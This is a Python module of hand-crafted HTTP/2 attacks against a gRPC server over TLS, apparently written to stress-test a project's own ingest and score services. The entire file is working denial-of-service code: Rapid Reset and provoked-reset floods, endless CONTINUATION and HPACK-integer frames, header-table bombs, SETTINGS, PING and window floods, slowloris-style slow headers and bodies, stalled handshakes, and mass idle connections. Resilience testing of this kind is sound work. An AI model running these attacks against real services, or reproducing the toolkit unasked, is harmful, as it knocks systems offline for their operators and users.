"""Attacks on an HTTP/2 listener over TLS, with frames made by hand: no client of gRPC sends
these."""

import collections
import functools
import itertools
import socket
import ssl
import struct
import threading
import time

DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 2, 3, 4, 6, 8, 9
END_STREAM, END_HEADERS, ACK = 1, 4, 1
INITIAL_WINDOW_SIZE, MAX_CONCURRENT_STREAMS = 4, 3
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
CHECK = "/grpc.health.v1.Health/Check"
WATCH = "/grpc.health.v1.Health/Watch"
REFLECT = "/grpc.reflection.v1alpha.ServerReflection/ServerReflectionInfo"
INGEST = "/tutti.ingest.v1.IngestService/IngestActivities"
STREAM = "/tutti.ingest.v1.IngestService/StreamActivities"
WATCH_SCORES = "/tutti.score.v1.ScoreService/WatchScores"
GET_SCORE = "/tutti.score.v1.ScoreService/GetScore"
CATALOG = "/tutti.score.v1.ScoreService/GetCatalog"


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def settings(**values):
    numbers = {"initial_window": INITIAL_WINDOW_SIZE, "streams": MAX_CONCURRENT_STREAMS}
    return frame(SETTINGS, 0, 0, b"".join(struct.pack(">HI", numbers[name], value) for name, value in values.items()))


def integer(value, bits, first=0):
    """An integer of HPACK."""
    most = (1 << bits) - 1
    if value < most:
        return bytes([first | value])
    out, value = bytearray([first | most]), value - most
    while value >= 128:
        out.append(128 | value & 127)
        value >>= 7
    out.append(value)
    return bytes(out)


def text(value):
    return integer(len(value), 7) + value


def field(name, value):
    """A header that enters no table."""
    return b"\0" + text(name.encode()) + text(value.encode())


def call_headers(method, token=None, authority="localhost"):
    block = (b"\x83\x87" + field(":path", method) + field(":authority", authority) + field("te", "trailers") +
             field("content-type", "application/grpc"))
    return block + (field("authorization", "Bearer " + token) if token else b"")


def message(body=b""):
    return b"\0" + struct.pack(">I", len(body)) + body


class Target:
    """Whom an attack is for, how long, and what it came to."""

    def __init__(self, address, authority, seconds, token=None, body=b"", connections=None, source=""):
        self.host, port = address.rsplit(":", 1)
        self.port = int(port)
        self.context = ssl.create_default_context(cafile=authority)
        self.context.set_alpn_protocols(["h2"])
        self.token, self.body, self.connections, self.source = token, body, connections, source
        self.until = time.monotonic() + seconds
        self.counts = collections.Counter()
        self.lock = threading.Lock()

    def count(self, what, number=1):
        with self.lock:
            self.counts[what] += number

    def running(self):
        return time.monotonic() < self.until

    def tcp(self, source=None):
        return socket.create_connection((self.host, self.port), timeout=10, source_address=(source or self.source, 0))

    def connect(self, first=settings(), source=None):
        """A connection that has shaken hands and sent its preface."""
        connection = self.context.wrap_socket(self.tcp(source), server_hostname=self.host)
        connection.sendall(PREFACE + first)
        connection.settimeout(2)
        self.count("connections")
        return connection

    def block(self, method):
        return call_headers(method, self.token, self.host)


def drain(connection):
    """Takes what is there, whatever it is."""
    connection.setblocking(False)
    try:
        while True:
            if not connection.recv(1 << 16):
                raise ConnectionError("it ended")
    except (ssl.SSLWantReadError, BlockingIOError):
        pass
    finally:
        connection.settimeout(2)


def in_threads(works):
    """Runs all of them at the same time."""
    workers = [threading.Thread(target=work) for work in works]
    for worker in workers:
        worker.start()
    for worker in workers:
        worker.join()


def flood(target, pieces, threads=4, read=False, first=settings()):
    """Sends what `pieces(target)` yields as fast as it is taken, on so many connections; begins
    anew when one is ended, or takes nothing more. `read`: takes the answers."""

    def run():
        while target.running():
            connection = None
            try:
                connection = target.connect(first)
                for piece in pieces():
                    connection.sendall(piece)
                    target.count("bytes", len(piece))
                    if read:
                        drain(connection)
                    if not target.running():
                        break
            except (OSError, ValueError):
                target.count("ended")
            finally:
                if connection is not None:
                    connection.close()
    in_threads([run] * (target.connections or threads))


def hold(target, number, begin, feed=None):
    """Keeps so many connections that `begin()` makes, in as many threads as it takes to make
    them fast; `feed(connection)` is what each gets every second. Those that end are made anew."""
    number = target.connections or number
    each = [number // 8 + (i < number % 8) for i in range(8)]

    def run(count):
        held = []
        while target.running():
            while len(held) < count and target.running():
                try:
                    held.append(begin())
                except OSError:
                    target.count("refused")
                    time.sleep(0.2)
            tick = time.monotonic() + 1
            alive = []
            for connection in held:
                try:
                    if feed is not None:
                        feed(connection)
                    else:
                        drain(connection)
                    alive.append(connection)
                except TimeoutError:
                    alive.append(connection)
                except OSError:
                    target.count("ended")
                    connection.close()
            held = alive
            time.sleep(max(0, min(tick, target.until) - time.monotonic()))
        target.count("held at the end", len(held))
        for connection in held:
            connection.close()
    in_threads([functools.partial(run, count) for count in each if count])


def endless(piece, first=b""):
    """`first`, then `piece` for ever."""
    return lambda: itertools.chain([first] if first else [], itertools.repeat(piece))


def churn(target, number, each):
    """Begins so many calls at a time, for ever; `each(stream)` is the frames of one."""

    def pieces():
        for first in itertools.count(1, 2 * number):
            target.count("calls", number)
            yield b"".join(each(stream) for stream in range(first, first + 2 * number, 2))
    flood(target, pieces, read=True)


def with_calls(target, block, number=100, rest=lambda stream: b"", first=settings()):
    """A connection with calls under way, each with `rest(stream)` behind its headers."""
    connection = target.connect(first)
    connection.sendall(b"".join(frame(HEADERS, END_HEADERS, stream, block) + rest(stream)
                                for stream in range(1, 2 * number, 2)))
    return connection


ATTACKS = {}


def attack(function):
    ATTACKS[function.__name__] = function
    return function


@attack
def continuation(target):
    """Headers that never end, each small."""
    small = field("a", "") * 4096
    flood(target, endless(frame(CONTINUATION, 0, 1, small) * 16, frame(HEADERS, 0, 1, target.block(CHECK))))


@attack
def integers(target):
    """A number of HPACK that never ends."""
    flood(target, endless(frame(CONTINUATION, 0, 1, b"\x80" * 16384) * 8, frame(HEADERS, 0, 1, b"\x7f")))


@attack
def header_bomb(target):
    """One large header in the table, then referred to as often as a frame holds."""
    large = b"\x40" + text(b"x") + text(b"y" * 4000)

    def pieces():
        stream = 1
        while True:
            block = target.block(CHECK) + large + b"\xbe" * (16384 - 5000)
            yield frame(HEADERS, END_HEADERS, stream, block)
            stream += 2
    flood(target, pieces, read=True)


@attack
def large_headers(target):
    """Calls with a megabyte of headers each."""

    def pieces():
        stream = 1
        while True:
            yield frame(HEADERS, 0, stream, target.block(CHECK))
            for i in range(64):
                yield frame(CONTINUATION, END_HEADERS if i == 63 else 0, stream, field("x" * 8, "y" * 16_000))
            stream += 2
    flood(target, pieces, read=True)


def resets(target, method):
    block = target.block(method)
    churn(target, 100, lambda stream: frame(HEADERS, END_HEADERS, stream, block) +
          frame(RST_STREAM, 0, stream, struct.pack(">I", 8)))


@attack
def rapid_reset(target):
    """Opens calls of health and resets them at once."""
    resets(target, CHECK)


@attack
def rapid_reset_with_token(target):
    """The same with calls that a token opens."""
    resets(target, GET_SCORE)


@attack
def provoked_reset(target):
    """Has the server reset: a window that grows by nothing is an error of its stream."""
    block = target.block(CHECK)
    churn(target, 100, lambda stream: frame(HEADERS, END_HEADERS, stream, block) +
          frame(WINDOW_UPDATE, 0, stream, struct.pack(">I", 0)))


@attack
def refused_calls(target):
    """Calls without a token, as fast as they are refused."""
    block = call_headers(GET_SCORE, None, target.host)
    churn(target, 50, lambda stream: frame(HEADERS, END_HEADERS, stream, block) +
          frame(DATA, END_STREAM, stream, message()))


@attack
def settings_flood(target):
    """Each wants an acknowledgement, which nobody reads."""
    flood(target, endless(b"".join(settings(initial_window=65535 + i % 7) for i in range(4096))))


@attack
def ping_flood(target):
    """Each wants an answer, which nobody reads."""
    flood(target, endless(frame(PING, 0, 0, b"12345678") * 4096))


@attack
def priority_flood(target):
    """Priorities of streams that are not there."""

    def pieces():
        stream = 1
        while True:
            yield b"".join(frame(PRIORITY, 0, stream + 2 * i, struct.pack(">IB", 0, i & 255)) for i in range(4096))
            stream = (stream + 8192) % (1 << 30) | 1
    flood(target, pieces)


@attack
def window_flood(target):
    """Windows that grow a byte at a time, of the connection and of a call."""
    one = struct.pack(">I", 1)
    flood(target, endless((frame(WINDOW_UPDATE, 0, 0, one) + frame(WINDOW_UPDATE, 0, 1, one)) * 2048,
                          frame(HEADERS, END_HEADERS, 1, target.block(WATCH)) + frame(DATA, END_STREAM, 1, message())))


@attack
def empty_data(target):
    """Pieces of a message that have no bytes."""
    flood(target, endless(frame(DATA, 0, 1) * 4096, frame(HEADERS, END_HEADERS, 1, target.block(CHECK))))


@attack
def slow_headers(target):
    """Headers of which a byte comes every second."""

    def begin():
        connection = target.connect()
        connection.sendall(frame(HEADERS, 0, 1, target.block(CHECK)))
        return connection

    def feed(connection):
        connection.sendall(frame(CONTINUATION, 0, 1, field("a", "")))
    hold(target, 500, begin, feed)


@attack
def slow_bodies(target):
    """Batches of which a byte comes every second, a hundred on each connection."""
    block = target.block(INGEST)

    def begin():
        return with_calls(target, block, 100, lambda stream: frame(DATA, 0, stream, b"\0" + struct.pack(">I", 15 << 20)))

    def feed(connection):
        drain(connection)
        connection.sendall(b"".join(frame(DATA, 0, 2 * i + 1, b"\n") for i in range(100)))
    hold(target, 50, begin, feed)


@attack
def large_bodies(target):
    """Batches of 15 MiB of which the end never comes, as much of each as is taken."""
    block = target.block(INGEST)

    def pieces():
        yield b"".join(frame(HEADERS, END_HEADERS, 2 * i + 1, block) +
                       frame(DATA, 0, 2 * i + 1, b"\0" + struct.pack(">I", 15 << 20) + bytes(600)) for i in range(100))
        while True:
            # More than the first window is an error: what it lets through is enough.
            yield frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1))
            time.sleep(0.5)
    flood(target, pieces, threads=50)


@attack
def stalled_handshakes(target):
    """Connections that begin to shake hands, and stop."""
    hello = bytes.fromhex("16030102000100") + b"\x01\xfc\x03\x03" + b"t" * 100

    def begin():
        connection = target.tcp()
        connection.sendall(hello)
        target.count("connections")
        return connection
    hold(target, 2000, begin)


@attack
def slow_scores(target):
    """Watches of scores, and answers of the catalogue, that nobody reads: no window is given."""

    def begin():
        connection = target.connect(settings(initial_window=0))
        calls = b""
        for i in range(50):
            method, body = (WATCH_SCORES, target.body) if i % 2 else (CATALOG, b"")
            calls += frame(HEADERS, END_HEADERS, 2 * i + 1, target.block(method))
            calls += frame(DATA, END_STREAM, 2 * i + 1, message(body))
        connection.sendall(calls)
        return connection
    hold(target, 40, begin)


@attack
def slow_streams(target):
    """Streams of activities whose answers nobody reads."""
    block = target.block(STREAM)

    def feed(connection):
        for i in range(50):
            connection.sendall(frame(DATA, 0, 2 * i + 1, message(target.body)))
    hold(target, 40, lambda: with_calls(target, block, 50, first=settings(initial_window=0)), feed)


@attack
def health_watches(target):
    """Watches of health without a token."""
    block = call_headers(WATCH, None, target.host)
    hold(target, 60, lambda: with_calls(target, block, 100, lambda stream: frame(DATA, END_STREAM, stream, message())))


@attack
def open_checks(target):
    """Calls of health without a token whose message never comes."""
    block = call_headers(CHECK, None, target.host)
    hold(target, 60, lambda: with_calls(target, block))


@attack
def reflection_streams(target):
    """Calls of reflection without a token that ask for nothing."""
    block = call_headers(REFLECT, None, target.host)
    hold(target, 10, lambda: with_calls(target, block))


@attack
def reflection_churn(target):
    """Calls of reflection that come and go."""
    block = call_headers(REFLECT, None, target.host)

    def pieces():
        stream = 1
        while True:
            yield b"".join(frame(HEADERS, END_HEADERS, stream + 2 * i, block) for i in range(50))
            yield b"".join(frame(DATA, END_STREAM, stream + 2 * i) for i in range(50))
            stream += 100
            target.count("calls", 50)
    flood(target, pieces, read=True)


@attack
def idle(target):
    """Ten thousand connections that have nothing to say, from a hundred addresses, so that what one
    may have is not what bounds them; a tenth have shaken hands."""
    made = iter(range(1 << 60))

    def begin():
        number = next(made)
        source = f"127.1.{number // 10 % 100}.1"
        if number % 10 == 0:
            return target.connect(source=source)
        target.count("connections")
        return target.tcp(source)
    hold(target, 10_000, begin)


@attack
def acknowledgements(target):
    """Acknowledges settings that nobody sent."""
    flood(target, endless(frame(SETTINGS, ACK, 0) * 4096))


@attack
def unknown_frames(target):
    """Frames of a kind that there is not."""
    flood(target, endless(frame(0x42, 0xff, 1, b"x" * 64) * 1024))


@attack
def trailers(target):
    """Calls whose headers are followed by headers."""
    block = call_headers(CHECK, None, target.host)
    more = field("x-more", "y" * 100) * 20
    churn(target, 50, lambda stream: frame(HEADERS, END_HEADERS, stream, block) + frame(HEADERS, END_HEADERS, stream, more) +
          frame(HEADERS, END_HEADERS | END_STREAM, stream, more))


@attack
def deadlines(target):
    """Calls that are over before they begin."""
    block = target.block(GET_SCORE) + field("grpc-timeout", "1n")
    churn(target, 50, lambda stream: frame(HEADERS, END_HEADERS, stream, block) + frame(DATA, END_STREAM, stream, message()))


@attack
def methods(target):
    """Calls of methods that nobody serves, each another, with long names."""
    churn(target, 50, lambda stream: frame(HEADERS, END_HEADERS, stream, call_headers(
        f"/{target.counts['calls']}x{stream}{'y' * 2000}/Z", None, target.host)) + frame(DATA, END_STREAM, stream, message()))
